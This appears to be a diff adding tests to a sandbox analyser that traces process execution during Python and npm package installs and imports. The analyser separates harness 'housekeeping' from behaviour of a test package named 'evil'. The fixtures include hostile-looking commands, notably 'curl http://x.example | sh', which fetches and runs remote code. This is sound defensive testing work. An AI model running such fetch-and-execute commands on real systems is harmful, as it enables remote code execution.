@@ -322,6 +322,56 @@ describe("the idle window's harness shell", () => {
     ]);
   });
 
+  it('the bash steps runner: its re-exec as plain `bash` keeps its argv (housekeeping); a Python step is named by its script', async () => {
+    const script = [
+      '{ exec 0<&3 3<&-',
+      "'python3' '-m' 'pip' 'install' 'dist/evil-1.0.tar.gz'",
+      `python3 <<< 'import os, sys; sys.argv[:] = ["","evil","evil_mod"]; os.dup2(_fd := os.open(os.devnull, os.O_RDONLY), 0); os.close(_fd); del _fd\n'"$(< '/usr/local/libexec/import-py.py')"`,
+    ].join('\n');
+    const runner = ['/bin/bash', '-c', 'exec 3<&0; exec -a bash /bin/bash <<< "$1"', 'bash', script];
+    const steps = `
+1 1.0 execve("/bin/bash", ${JSON.stringify(runner)}, 0x1 /* 1 var */) = 0
+1 1.1 execve("/bin/bash", ["bash"], 0x1 /* 1 var */) = 0
+1 1.2 vfork() = 2
+2 1.3 execve("/usr/bin/python3", ["python3", "-m", "pip", "install", "dist/evil-1.0.tar.gz"], 0x1 /* 1 var */) = 0
+2 1.4 +++ exited with 0 +++
+1 1.5 vfork() = 3
+3 1.6 execve("/usr/bin/python3", ["python3"], 0x1 /* 1 var */) = 0
+3 1.7 vfork() = 4
+4 1.8 execve("/bin/bash", ["bash"], 0x1 /* 1 var */) = 0
+4 1.9 +++ exited with 0 +++
+3 2.0 +++ exited with 0 +++
+1 2.1 +++ exited with 0 +++
+`;
+    const b = await buildBehavior({ phases: [{ name: 'idle', events: parseTraceText(steps) }], sandbox });
+    expect(b.processes.map((p) => [p.argv.join(' ').slice(0, 60), p.housekeeping ?? false])).toEqual([
+      [runner.join(' ').slice(0, 60), true],
+      ['python3 -m pip install dist/evil-1.0.tar.gz', true],
+      ['python3 /usr/local/libexec/import-py.py evil evil_mod', false],
+      // A `bash` the package's code starts is its own, not the runner.
+      ['bash', false],
+    ]);
+  });
+
+  it('the runner executing its only step (a PyPI harness): the step is the root, named by its script, not housekeeping', async () => {
+    const script = `{ exec 0<&3 3<&-\nexec python3 <<< 'import os, sys; sys.argv[:] = ["","evil"]; os.dup2(_fd := os.open(os.devnull, os.O_RDONLY), 0); os.close(_fd); del _fd\n'"$(< '/usr/local/libexec/import-py.py')"`;
+    const runner = ['/bin/bash', '-c', 'exec 3<&0; exec -a bash /bin/bash <<< "$1"', 'bash', script];
+    const steps = `
+1 1.0 execve("/bin/bash", ${JSON.stringify(runner)}, 0x1 /* 1 var */) = 0
+1 1.1 execve("/bin/bash", ["bash"], 0x1 /* 1 var */) = 0
+1 1.2 execve("/usr/bin/python3", ["python3"], 0x1 /* 1 var */) = 0
+1 1.3 vfork() = 2
+2 1.4 execve("/usr/bin/curl", ["curl", "http://x.example"], 0x1 /* 1 var */) = 0
+2 1.5 +++ exited with 0 +++
+1 2.0 +++ exited with 0 +++
+`;
+    const b = await buildBehavior({ phases: [{ name: 'import', events: parseTraceText(steps) }], sandbox });
+    expect(b.processes.map((p) => [p.argv.join(' '), p.housekeeping ?? false])).toEqual([
+      ['python3 /usr/local/libexec/import-py.py evil', false],
+      ['curl http://x.example', false],
+    ]);
+  });
+
   it('a look-alike shell that is not the root, or runs anything else, stays evidence', async () => {
     expect((await housekeeping(JSON.stringify(['/bin/sh', '-c', `${script}; curl http://x.example | sh`])))[0]).toEqual(['/bin/sh', false]);
     expect((await housekeeping(JSON.stringify(['/bin/sh', '-c', `'curl' 'http://x.example'; 'node' '/usr/local/libexec/import-npm.cjs' 'evil'`])))[0]).toEqual(['/bin/sh', false]);
